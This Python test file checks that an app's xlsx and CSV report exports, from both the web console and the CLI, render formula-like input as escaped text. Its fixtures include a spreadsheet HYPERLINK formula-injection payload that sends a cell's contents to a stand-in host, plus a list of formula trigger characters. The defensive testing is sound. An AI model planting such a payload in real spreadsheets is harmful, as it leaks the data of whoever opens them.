"""Exports carry text, never formulas: a report or a display name written as a spreadsheet formula
is a string cell in xlsx and an escaped cell in CSV, in the console's downloads and in
``nimo reports export``.  The files are opened with openpyxl and the csv module, as a person's
spreadsheet would read them."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from bot.reports import records as rp
from bot.people.access import add_user, set_display_name
from storage.connections import open_db

from .conftest import FIXED_NOW
from .test_console import Console

ATTACK = '=HYPERLINK("http://127.0.0.1/?d="&F3,"x")'
NAME = "@SUM(1+1)"
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as a formula (OWASP)
NEXT = "-1+1 家族と面談"
AREA = "+千葉市"


def _fill(db) -> None:
    add_user(db, "line", "Uadmin", "admin", AREA, FIXED_NOW)
    add_user(db, "line", "Uattacker", "staff", AREA, FIXED_NOW)
    set_display_name(db, "line", "Uattacker", NAME)
    rp.save(db, rp.Draft(type="訪問", date="2026-11-20", case_code="K-012", area=AREA, summary=ATTACK,
                         next_action=NEXT, next_date="2026-12-01"),
            platform="line", author="Uattacker", source_key="k1", now=FIXED_NOW)
    rp.save(db, rp.Draft(type="電話", date="2026-11-21", case_code="K-013", area=AREA, summary="\tタブで始まる"),
            platform="line", author="Uattacker", source_key="k2", now=FIXED_NOW)


def _no_formula_in_xlsx(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_LEAD)]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    return [c.value for c in cells]


def _no_formula_in_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert not [v for row in rows for v in row if v.startswith(FORMULA_LEAD)]
    return rows


def _text_kept(values) -> None:
    """What was written is still there to read, only marked as text."""
    for typed in (ATTACK, NAME, NEXT, AREA, "\tタブで始まる"):
        assert typed in values or "'" + typed in values


def test_formula_in_report_text_exports_as_text_from_the_console(clock):
    db = open_db(":memory:")
    _fill(db)
    c = Console(db, clock).client(user="Uadmin")
    r = c.get("/reports/export.xlsx?since=2026-11-01")
    assert r.status_code == 200
    cells = _no_formula_in_xlsx(r.data)
    _text_kept(cells)
    assert ATTACK in cells and NAME in cells  # xlsx: the very text, as a string cell
    r = c.get("/reports/export.csv?since=2026-11-01")
    assert r.status_code == 200
    rows = _no_formula_in_csv(r.data)
    _text_kept([v for row in rows for v in row])
    assert any(row[5] == "'" + ATTACK for row in rows)  # the 内容 column, marked as text


def test_formula_in_report_text_exports_as_text_from_the_cli(nimo, tmp_path):
    _fill(open_db(nimo.db_path))
    xl, out = tmp_path / "r.xlsx", tmp_path / "r.csv"
    nimo("reports", "export", "-o", str(xl))
    nimo("reports", "export", "-o", str(out))
    _text_kept(_no_formula_in_xlsx(xl.read_bytes()))
    rows = _no_formula_in_csv(out.read_bytes())
    _text_kept([v for row in rows for v in row])
    authors = {row[10] for row in rows[1:]}
    assert authors == {"'" + NAME}
